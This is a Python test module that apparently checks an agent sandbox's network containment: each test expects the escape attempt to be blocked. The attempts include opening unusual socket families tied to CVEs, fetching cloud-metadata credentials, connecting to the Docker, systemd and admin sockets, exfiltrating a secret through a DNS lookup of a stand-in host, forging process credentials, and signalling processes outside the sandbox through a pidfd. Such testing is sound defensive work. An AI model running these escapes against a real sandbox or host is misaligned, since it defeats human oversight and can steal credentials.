"""Attempts on the network: families of sockets, the host's sockets, names.

Runs as: see `frame`.
Reads from strangers: nothing.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import signal
import socket
import struct
import threading
from collections.abc import Iterator

from tests.escape.attempts import kernel
from tests.escape.attempts.frame import Function, Nothing, attempt, attempts

AREA = "network"

_STREAM, _DGRAM, _RAW, _SEQPACKET = 1, 2, 3, 5


def _socket(family: int, kind: int, protocol: int = 0) -> Function:
    def make() -> str:
        os.close(kernel.call("socket", family, kind, protocol))
        return "made a socket"

    return make


def _if_loaded(name: str, family: int, kind: int, protocol: int) -> Function:
    """The control for a family that may be a module: asking for it as root would load the module into the host."""

    def make() -> str:
        with open("/proc/net/protocols", encoding="ascii") as file:
            loaded = {line.split()[0] for line in file}
        if name not in loaded:
            raise OSError(errno.EAFNOSUPPORT, "not loaded, and we do not load it")
        return _socket(family, kind, protocol)()

    return make


attempts(
    AREA,
    "EPERM",
    [
        ("tcp", "send it somewhere", _socket(socket.AF_INET, _STREAM)),
        ("udp", "send it somewhere, in small pieces", _socket(socket.AF_INET, _DGRAM)),
        ("tcp_over_ipv6", "the other one, which filters forget", _socket(socket.AF_INET6, _STREAM)),
        ("udp_over_ipv6", "fragments of it: CVE-2026-53362", _socket(socket.AF_INET6, _DGRAM)),
        ("raw_ip", "packets with any address", _socket(socket.AF_INET, _RAW, 1)),
        ("route_netlink", "interfaces and routes", _socket(16, _RAW, 0)),
        ("audit_netlink", "the host's audit log", _socket(16, _RAW, 9)),
        ("netfilter_netlink", "nf_tables: a new exploit each year", _socket(16, _RAW, 12)),
        ("uevent_netlink", "pretend that a device came", _socket(16, _DGRAM, 15)),
        ("packet", "every packet of the interface: CVE-2017-7308", _socket(17, _RAW, 0x300)),
    ],
    sees="open",
    lacks="EPROTONOSUPPORT EAFNOSUPPORT",
)


@attempt(AREA, "EPERM", sees="open EACCES")
def ping() -> str:
    """ICMP needs no raw socket; net.ipv4.ping_group_range decides who may, with EACCES."""
    return _socket(socket.AF_INET, _DGRAM, 1)()


_MODULES = (
    ("mptcp", "MPTCP", socket.AF_INET, _STREAM, 262, "a TCP that Landlock's rules do not cover"),
    ("sctp", "SCTP", socket.AF_INET, _STREAM, 132, "a transport that nobody looks at"),
    ("vsock", "AF_VSOCK", 40, _STREAM, 0, "the hypervisor; has no namespaces"),
    ("alg", "ALG", 38, _SEQPACKET, 0, "the kernel's ciphers: CVE-2026-31431 wrote to read-only pages"),
    ("bluetooth", "L2CAP", 31, _SEQPACKET, 0, "radio"),
    ("can", "CAN", 29, _RAW, 1, "CVE-2021-3609"),
    ("tipc", "TIPC", 30, _STREAM, 0, "CVE-2021-43267"),
    ("rds", "RDS", 21, _SEQPACKET, 0, "CVE-2010-3904"),
    ("rxrpc", "RXRPC", 33, _DGRAM, 2, "CVE-2026-43500"),
    ("xdp", "XDP", 44, _RAW, 0, "packets before the kernel sees them"),
    ("pfkey", "KEY", 15, _RAW, 2, "IPsec's keys"),
    ("qrtr", "QIPCRTR", 42, _DGRAM, 0, "modems"),
    ("smc", "SMC", 43, _STREAM, 0, "shared memory of two hosts"),
    ("ieee802154", "IEEE-802.15.4", 36, _DGRAM, 0, "radio"),
    ("nfc", "NFC", 39, _SEQPACKET, 0, "radio: CVE-2021-23134"),
    ("phonet", "PHONET", 35, _DGRAM, 0, "modems"),
    ("kcm", "KCM", 41, _DGRAM, 0, "multiplexed messages"),
    ("x25", "X25", 9, _SEQPACKET, 0, "a network of the seventies"),
    ("appletalk", "DDP", 5, _DGRAM, 0, "a network of the eighties"),
)
for _name, _protocol, _family, _kind, _number, _idea in _MODULES:
    attempts(
        AREA,
        "EPERM",
        [(f"family_{_name}", _idea, _socket(_family, _kind, _number))],
        control=_if_loaded(_protocol, _family, _kind, _number),
        lacks="EAFNOSUPPORT EPROTONOSUPPORT ESOCKTNOSUPPORT",
    )


@attempt(AREA, "EPERM")
def hide_netlink_in_the_upper_half() -> str:
    """The kernel reads 32 bits of the family and a careless filter 64: 0x1_0000_0010 is AF_NETLINK."""
    return _socket(kernel.HALF | 16, _RAW)()


@attempt(AREA, "EPERM")
def hide_inet_in_the_upper_half() -> str:
    """The same with AF_INET."""
    return _socket(kernel.HALF | socket.AF_INET, _STREAM)()


@attempt(AREA, "EPERM")
def unix_with_the_upper_half_set() -> str:
    """Even the allowed family is allowed only as a number without decoration."""
    return _socket(kernel.HALF | socket.AF_UNIX, _STREAM)()


@attempt(AREA, "EPERM", sees="ENOTSUP EAFNOSUPPORT")
def a_pair_of_inet_sockets() -> str:
    """socketpair is another way to make sockets."""
    first, second = socket.socketpair(socket.AF_INET, socket.SOCK_STREAM)
    first.close()
    second.close()
    return "made a pair"


# ---- reaching what is there


@contextlib.contextmanager
def _listener() -> Iterator[int]:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        yield server.getsockname()[1]


def _connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=2):
        return "connected"


def _connect_to_a_listener() -> str:
    with _listener() as port:
        return _connect(port)


@attempt(AREA, "EPERM EACCES", control=_connect_to_a_listener)
def connect_to_the_gateway() -> str:
    """The daemon listens on the host's loopback."""
    return _connect(8450)


@attempt(AREA, "EPERM EACCES", control=_connect_to_a_listener)
def ask_the_cloud_for_credentials() -> str:
    """169.254.169.254 gives a virtual machine its keys."""
    with socket.create_connection(("169.254.169.254", 80), timeout=2):
        return "connected"


def _look_up() -> str:
    try:
        return str(socket.getaddrinfo("c2VjcmV0.escape.example", 443, type=socket.SOCK_STREAM))
    except socket.gaierror as error:
        raise Nothing(str(error)) from error


def _look_up_with_a_server() -> str:
    """A name server of ours, on our own loopback, sees the name arrive."""
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 53))
        server.settimeout(5)
        client = threading.Thread(target=_quietly, args=(_look_up,))
        client.start()
        query = server.recv(512)
        client.join(5)
    if b"c2VjcmV0" not in query:
        raise Nothing("the name did not arrive")
    return f"the server was asked: {query!r}"


def _quietly(function: Function) -> None:
    with contextlib.suppress(Nothing):
        function()


@attempt(AREA, "nothing", control=_look_up_with_a_server)
def smuggle_by_name() -> str:
    """Names are data: a look-up of SECRET.example.com tells example.com the secret."""
    return _look_up()


# ---- sockets of the host, without a network

LISTENER = "ESCAPE_LISTENER"
HOST_ABSTRACT = "\0" + os.environ.get(LISTENER, "runagentd-escape-listener-of-the-host")
"""The tests listen here, on the host, while the attempts run; the agent's configuration tells the name."""


def _connect_with_a_host() -> str:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(HOST_ABSTRACT)
        server.listen()
        return connect_to_an_abstract_socket_of_the_host()


@attempt(AREA, "ECONNREFUSED EPERM", control=_connect_with_a_host)
def connect_to_an_abstract_socket_of_the_host() -> str:
    """Abstract names have no permissions: containerd-shim was taken over that way (CVE-2020-15257)."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(HOST_ABSTRACT)
    return "connected"


def _connect_path(path: str) -> Function:
    def connect() -> str:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(path)
        return f"connected to {path}"

    return connect


def _with_a_server_at(path: str) -> Function:
    def connect() -> str:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path)
            server.listen()
            return _connect_path(path)()

    return connect


for _name, _path, _idea in (
    ("docker", "/run/docker.sock", "is root"),
    ("systemd", "/run/systemd/private", "starts anything"),
    ("dbus", "/run/dbus/system_bus_socket", "knows everybody"),
    ("journal", "/run/systemd/journal/socket", "writes the log"),
    ("the_daemon", "/run/runagentd/admin.sock", "deploys agents"),
):
    attempts(
        AREA,
        "ENOENT",
        [(f"connect_to_{_name}", _idea, _connect_path(_path))],
        control=_with_a_server_at(_path.replace("/run/", "/run/escape-control/")),
    )


# ---- programs on sockets, forged credentials


@attempt(AREA, "EPERM")
def attach_a_filter_to_a_socket() -> str:
    """SO_ATTACH_FILTER gives the kernel a BPF program of ours: the start of many exploits."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        program = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0xFFFF))
        one.setsockopt(socket.SOL_SOCKET, 26, struct.pack("<HxxxxxxQ", 1, ctypes.addressof(program)))
    return "attached"


@attempt(AREA, "EPERM")
def enlarge_a_buffer_by_force() -> str:
    """SO_SNDBUFFORCE goes beyond the host's limit."""
    with socket.socket(socket.AF_UNIX) as one:
        one.setsockopt(socket.SOL_SOCKET, 32, 1 << 28)
    return "enlarged"


def _forge(pid: int, uid: int) -> str:
    first, second = socket.socketpair()
    with first, second:
        credentials = struct.pack("3i", pid, uid, uid)
        first.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, credentials)])  # SCM_CREDENTIALS
    return "sent"


@attempt(AREA, "EPERM", control=lambda: _forge(1, 0))
def forge_a_pid() -> str:
    """unix(7) lets a privileged process claim to be another one."""
    return _forge(1, os.getuid())


@attempt(AREA, "EPERM EINVAL", control=lambda: _forge(os.getpid(), 1))
def forge_a_uid() -> str:
    """And another user; a uid that our user namespace does not know is not even a uid."""
    return _forge(os.getpid(), 0)


@attempt(AREA, "nothing", in_runner=True, no_control="outside, there is no channel whose other end could be asked for")
def reach_the_gateway_by_pidfd() -> str:
    """SO_PEERPIDFD makes a pidfd of whoever opened the other end of our channel, out of every pid namespace."""
    for number in range(3, 9):
        try:
            with socket.socket(fileno=os.dup(number)) as one:
                pid, uid, _ = struct.unpack("3i", one.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
                if pid != 0:
                    return f"descriptor {number}: the other end is process {pid} of uid {uid}"
                pidfd = struct.unpack("i", one.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        except OSError:
            continue
        try:
            with open(f"/proc/self/fdinfo/{pidfd}", encoding="ascii") as file:
                shown = next(line for line in file if line.startswith("Pid:"))
            signal.pidfd_send_signal(pidfd, 0)
        except OSError:
            continue
        finally:
            os.close(pidfd)
        return f"signalled the process behind descriptor {number}, {shown}"
    raise Nothing("no other end can be reached")
